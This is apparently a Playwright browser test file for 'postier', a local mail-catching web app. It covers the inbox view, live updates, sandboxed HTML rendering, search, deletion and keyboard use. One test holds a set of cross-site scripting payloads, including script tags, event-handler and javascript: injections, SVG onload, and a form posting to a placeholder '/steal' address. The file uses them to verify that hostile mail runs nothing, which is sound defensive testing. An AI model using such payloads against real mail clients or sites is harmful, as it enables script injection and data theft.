"""The page in a real browser: it loads, follows the store live (SMTP, another tab, the
CLI), opens a message (text, HTML in a sandboxed frame, inline images), searches,
deletes; and hostile messages run nothing, show as text and load nothing remote."""

from __future__ import annotations

import re
import struct
import time
import zlib
from email.message import EmailMessage
from typing import Any

import pytest

from tests.browser.conftest import Postier, Watch, open_page, screenshot

pytestmark = pytest.mark.slow

expect = pytest.importorskip("playwright.sync_api").expect


def png(width: int = 24, height: int = 12) -> bytes:
    """A real image (blue), that a browser decodes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\x00" + b"\x25\x63\xeb" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def rich() -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Shop <orders@shop.example>"
    message["To"] = "Alice <alice@example.org>"
    message["Cc"] = "carol@example.org"
    message["Subject"] = "Your order has shipped"
    message.set_content("Plain words of the order.\n")
    message.add_alternative(
        "<h1>Shipped</h1><p>Rich words of the order.</p>"
        '<img id="logo" src="cid:logo@shop" alt="logo">',
        subtype="html",
    )
    message.get_payload()[1].add_related(png(), maintype="image", subtype="png", cid="<logo@shop>")  # type: ignore[index]
    message.add_attachment(
        b"%PDF-1.4\n", maintype="application", subtype="pdf", filename="invoice.pdf"
    )
    return message


def rows(page: Any) -> Any:
    return page.locator("#messages .row")


def row(page: Any, subject: str) -> Any:
    return rows(page).filter(has=page.locator(".subject", has_text=subject))


def test_the_page_loads_with_its_mailboxes_and_list(
    postier: Postier, context: Any, watch: Watch
) -> None:
    postier.send("First", to="alice@example.org")
    postier.send("Second", to="bob@example.org")
    postier.send("Third", to="alice@example.org")
    page = open_page(context, postier)
    expect(rows(page)).to_have_count(3)
    # Newest first; within one second the store's order is by mailbox file, so sorted here.
    assert sorted(rows(page).locator(".subject").all_inner_texts()) == ["First", "Second", "Third"]
    boxes = page.locator("#mailboxes button")
    expect(boxes).to_have_count(3)
    expect(boxes.nth(0)).to_contain_text("All mail")
    expect(page.locator("#mailboxes button", has_text="alice@example.org")).to_contain_text("2")
    page.locator("#mailboxes button", has_text="bob@example.org").click()
    expect(rows(page).locator(".subject")).to_have_text(["Second"])
    expect(page.locator("#list-title")).to_have_text("bob@example.org")
    screenshot(page, "mailbox")
    watch.assert_harmless()


def test_a_message_sent_over_smtp_appears_without_a_reload(
    postier: Postier, context: Any, watch: Watch
) -> None:
    postier.send("Already there")
    page = open_page(context, postier)
    page.evaluate("window.stayed = 'the same document'")
    alice = page.locator("#mailboxes button", has_text="alice@example.org")
    expect(alice.locator(".count")).to_have_text("1")
    started = time.monotonic()
    postier.send("Arrived live")
    expect(row(page, "Arrived live")).to_have_count(1, timeout=3000)
    waited = time.monotonic() - started
    expect(rows(page).first.locator(".subject")).to_have_text("Arrived live")
    expect(rows(page).first).to_have_class("row unread")
    expect(alice.locator(".count")).to_have_text("2")
    assert page.evaluate("window.stayed") == "the same document"
    assert waited < 2.0, f"the new message took {waited:.2f} s"
    screenshot(page, "list")
    watch.assert_harmless()


def test_opening_shows_the_text_and_the_html_in_a_sandboxed_frame(
    postier: Postier, context: Any, watch: Watch
) -> None:
    postier.send("", message=rich())
    page = open_page(context, postier)
    parts: list[tuple[str, int]] = []
    page.on("response", lambda r: parts.append((r.url, r.status)) if "/part/" in r.url else None)
    row(page, "Your order has shipped").first.click()  # the delivery: alice's and carol's
    expect(page.locator("#subject")).to_have_text("Your order has shipped")
    fields = page.locator("#fields")
    expect(fields).to_contain_text("Shop <orders@shop.example>")
    expect(fields).to_contain_text("Alice <alice@example.org>")
    expect(fields).to_contain_text("carol@example.org")
    frame_element = page.locator("#view iframe")
    assert frame_element.get_attribute("sandbox") == ""
    frame = page.frame_locator("#view iframe")
    expect(frame.locator("h1")).to_have_text("Shipped")
    expect(frame.locator("p")).to_have_text("Rich words of the order.")
    deadline = time.monotonic() + 10
    while not any(status == 200 for _, status in parts) and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert [status for _, status in parts] == [200]  # the cid: image, from its part
    box = frame.locator("#logo").bounding_box()
    assert box is not None and round(box["width"]) == 24  # decoded: its own size
    expect(page.locator("#attachments a")).to_have_text("invoice.pdf9 B")
    assert page.locator("#attachments a").get_attribute("download") == "invoice.pdf"
    expect(rows(page).first).to_have_class("row")  # opened: read
    # All mail lists the delivery once; opening it reads it, so no mailbox has unread left.
    expect(rows(page)).to_have_count(1)
    expect(page.locator("#mailboxes .count.zero")).to_have_count(3)
    screenshot(page, "message-html")
    page.locator("#tab-text").click()
    expect(page.locator("#view pre")).to_have_text("Plain words of the order.\n")
    page.locator("#tab-headers").click()
    expect(page.locator("#view table")).to_contain_text("Delivered-To")
    screenshot(page, "message-headers")
    page.locator("#tab-raw").click()
    expect(page.locator("#view pre")).to_contain_text("Subject: Your order has shipped")
    watch.assert_harmless()


REMOTE = "203.0.113.7"  # TEST-NET-3: never anybody's
HOSTILE = {
    "scripts": "<script>alert('script')</script><p id=x>text</p>"
    "<script>parent.document.title='pwned'; top.pwned=1</script>",
    "handlers": "<img src=x onerror=\"alert('onerror')\"><body onload=\"alert('onload')\">"
    "<div onmouseover=\"alert('over')\">hover me</div>",
    "javascript links": "<a id=go href=\"javascript:alert('link')\">click me</a>"
    '<a href="javascript:top.pwned=1" target=_top>top</a>',
    "svg": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('svg')\">"
    "<script>alert('svg script')</script><circle r=5 /></svg>"
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "forms": f"<form action='http://{REMOTE}/steal' method=post><input name=a value=b>"
    "<button id=send>Send</button></form>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=http://{REMOTE}/refresh'>",
    "remote css": f"<style>@import url(http://{REMOTE}/a.css); body {{ background: "
    f"url(http://{REMOTE}/b.png) }}</style><link rel=stylesheet href=http://{REMOTE}/c.css>"
    f"<img src=http://{REMOTE}/d.png><iframe src=http://{REMOTE}/e></iframe>"
    f"<video poster=http://{REMOTE}/f.png></video><object data=http://{REMOTE}/g></object>"
    f"<base href=http://{REMOTE}/><img src=relative.png>",
}
HOSTILE_SUBJECT = "<img src=x onerror=\"alert('subject')\"><script>alert('subject')</script>"


def test_hostile_messages_run_nothing_and_load_nothing_remote(
    postier: Postier, context: Any, watch: Watch
) -> None:
    for name, html in HOSTILE.items():
        postier.send(f"hostile {name}", html=html, sender=f'"<b>{name}</b>" <evil@evil.example>')
    postier.send(HOSTILE_SUBJECT, text="A subject of markup.\n")
    page = open_page(context, postier)
    expect(rows(page)).to_have_count(len(HOSTILE) + 1)
    page.evaluate("window.marker = 'untouched'")
    before = page.evaluate("Object.getOwnPropertyNames(window).sort()")
    for name in HOSTILE:
        row(page, f"hostile {name}").click()
        frame = page.frame_locator("#view iframe")
        expect(page.locator("#subject")).to_have_text(f"hostile {name}")
        expect(page.locator("#fields")).to_contain_text(f"<b>{name}</b> <evil@evil.example>")
        frame.locator("body").hover()
        if name == "javascript links":
            frame.locator("#go").click()
        if name == "forms":
            frame.locator("#send").click()
        if name == "remote css":
            expect(page.locator("#remote")).to_be_visible()  # offered, never clicked
        page.wait_for_timeout(300)
    screenshot(page, "hostile")
    row(page, "subject").first.click()
    expect(page.locator("#subject")).to_have_text(HOSTILE_SUBJECT)
    expect(rows(page).first.locator(".subject")).to_have_text(HOSTILE_SUBJECT)
    assert page.locator("#messages img, #messages script, #subject *").count() == 0
    page.wait_for_timeout(500)
    assert page.evaluate("Object.getOwnPropertyNames(window).sort()") == before
    assert page.evaluate("window.marker") == "untouched"
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert re.fullmatch(r"(\(\d+\) )?postier", page.title())  # the page's own, with its count
    assert page.url == postier.url + "/"
    watch.assert_harmless()


def test_search_narrows_the_list_as_you_type(postier: Postier, context: Any, watch: Watch) -> None:
    postier.send("Invoice for May", text="Amount due.\n")
    postier.send("Team lunch", text="Pizza on Friday.\n")
    postier.send("Invoice for June", to="bob@example.org", text="Amount due.\n")
    page = open_page(context, postier)
    expect(rows(page)).to_have_count(3)
    page.keyboard.press("/")
    expect(page.locator("#search")).to_be_focused()
    page.keyboard.type("subject:invoice", delay=20)
    expect(rows(page)).to_have_count(2)
    assert sorted(rows(page).locator(".subject").all_inner_texts()) == [
        "Invoice for June",
        "Invoice for May",
    ]
    page.locator("#search").fill("pizza")
    expect(rows(page).locator(".subject")).to_have_text(["Team lunch"])
    screenshot(page, "search")
    page.locator("#search").fill("subject:invoice -to:bob")
    expect(rows(page).locator(".subject")).to_have_text(["Invoice for May"])
    page.locator("#search").fill("after:never")
    expect(page.locator("#empty")).to_contain_text("Search:")
    page.locator("#search").fill("")
    expect(rows(page)).to_have_count(3)
    watch.assert_harmless()


def test_delete_removes_it_from_the_page_and_the_store(
    postier: Postier, context: Any, watch: Watch
) -> None:
    for subject in ("Keep me", "Delete me", "Me too"):
        postier.send(subject)
    page = open_page(context, postier)
    row(page, "Delete me").click()
    expect(page.locator("#subject")).to_have_text("Delete me")
    gone = [i for i in postier.ids()]
    page.locator("#delete").click()
    expect(row(page, "Delete me")).to_have_count(0)
    expect(rows(page)).to_have_count(2)
    left = postier.ids()
    assert len(left) == 2 and len(set(gone) - set(left)) == 1
    page.locator("#messages").focus()
    page.keyboard.press("k")
    page.keyboard.press("Enter")
    expect(page.locator("#subject")).not_to_have_text("Delete me")
    all_mail = page.locator("#mailboxes .count").first
    expect(all_mail).to_have_class("count zero")  # every one left was opened: none unread
    expect(all_mail).to_have_text("2")
    page.locator("#delete-all").click()
    expect(page.locator("#confirm")).to_be_visible()
    screenshot(page, "delete-all")
    page.locator("#confirm button", has_text="Cancel").click()
    expect(rows(page)).to_have_count(2)
    assert len(postier.ids()) == 2
    page.locator("#delete-all").click()
    page.locator("#confirm-ok").click()
    expect(rows(page)).to_have_count(0)
    expect(page.locator("#empty")).to_be_visible()
    assert postier.ids() == []
    watch.assert_harmless()


def test_a_second_tab_sees_the_changes_of_the_first(
    postier: Postier, context: Any, watch: Watch
) -> None:
    postier.send("Shared one")
    postier.send("Shared two")
    first = open_page(context, postier)
    second = open_page(context, postier)
    expect(row(second, "Shared one")).to_have_class("row unread")
    row(first, "Shared one").click()
    expect(row(second, "Shared one")).to_have_class("row", timeout=3000)
    first.locator("#toggle-read").click()
    expect(row(second, "Shared one")).to_have_class("row unread", timeout=3000)
    first.locator("#delete").click()
    expect(row(second, "Shared one")).to_have_count(0, timeout=3000)
    postier.send("Shared three")
    for page in (first, second):
        expect(row(page, "Shared three")).to_have_count(1, timeout=3000)
    watch.assert_harmless()


def test_changes_made_with_the_cli_show_in_the_page(
    postier: Postier, context: Any, watch: Watch
) -> None:
    postier.send("Marked by the CLI")
    postier.send("Deleted by the CLI")
    page = open_page(context, postier)
    by_subject = {m["Subject"]: m["ID"] for m in postier.api("/api/v1/messages")["messages"]}
    postier.cli("mark", "read", by_subject["Marked by the CLI"])
    expect(row(page, "Marked by the CLI")).to_have_class("row", timeout=3000)
    postier.cli("mark", "unread", by_subject["Marked by the CLI"])
    expect(row(page, "Marked by the CLI")).to_have_class("row unread", timeout=3000)
    row(page, "Deleted by the CLI").click()
    expect(page.locator("#subject")).to_have_text("Deleted by the CLI")
    postier.cli("delete", by_subject["Deleted by the CLI"])
    expect(row(page, "Deleted by the CLI")).to_have_count(0, timeout=3000)
    expect(page.locator("#nothing")).to_contain_text("deleted")
    postier.cli("delete", "--all")
    expect(rows(page)).to_have_count(0, timeout=3000)
    watch.assert_harmless()


def test_dark_and_narrow_screens(postier: Postier, context: Any, watch: Watch) -> None:
    postier.send("", message=rich())
    postier.send("A second message", to="bob@example.org")
    page = open_page(context, postier)
    page.emulate_media(color_scheme="dark")
    row(page, "Your order has shipped").first.click()  # the delivery: alice's and carol's
    expect(page.frame_locator("#view iframe").locator("h1")).to_have_text("Shipped")
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background != "rgb(246, 247, 249)"  # the dark colours, not the light ones
    screenshot(page, "dark")
    page.emulate_media(color_scheme="light")
    page.set_viewport_size({"width": 390, "height": 820})
    expect(page.locator("#messages")).to_be_hidden()  # one pane: the message
    page.locator("#back").click()
    expect(page.locator("#messages")).to_be_visible()
    expect(page.locator("#reader")).to_be_hidden()
    screenshot(page, "phone")
    for button in page.locator("button").all():
        if button.is_visible():
            assert (button.get_attribute("aria-label") or button.inner_text()).strip()
    watch.assert_harmless()


def test_remote_content_loads_only_when_asked(postier: Postier, context: Any, watch: Watch) -> None:
    postier.send("With a tracker", html=f"<p>Hi</p><img src='http://{REMOTE}/pixel.png'>")
    page = open_page(context, postier)
    row(page, "With a tracker").click()
    expect(page.frame_locator("#view iframe").locator("p")).to_have_text("Hi")
    page.wait_for_timeout(300)
    watch.assert_harmless()  # opened: nothing asked of the tracker
    page.locator("#remote").click()
    expect(page.locator("#view iframe")).to_have_attribute("src", re.compile(r"\?remote=1$"))
    deadline = time.monotonic() + 10
    while not watch.remote and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert watch.remote == [f"http://{REMOTE}/pixel.png"]  # asked for now (and refused here)
    assert page.locator("#view iframe").get_attribute("sandbox") == ""


def test_the_keys_move_open_mark_and_delete(postier: Postier, context: Any, watch: Watch) -> None:
    for subject in ("Oldest", "Middle", "Newest"):
        postier.send(subject)
        time.sleep(1.05)  # the store orders by the second it received each
    page = open_page(context, postier)
    expect(rows(page).locator(".subject")).to_have_text(["Newest", "Middle", "Oldest"])
    page.locator("#messages").focus()
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    expect(row(page, "Newest")).to_have_attribute("aria-selected", "true")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page.locator("#subject")).to_have_text("Middle")
    expect(row(page, "Middle")).to_have_class("row")
    page.locator("#messages").focus()
    page.keyboard.press("u")
    expect(row(page, "Middle")).to_have_class("row unread")
    page.keyboard.press("Delete")
    expect(row(page, "Middle")).to_have_count(0)
    assert len(postier.ids()) == 2
    page.keyboard.press("/")
    expect(page.locator("#search")).to_be_focused()
    watch.assert_harmless()
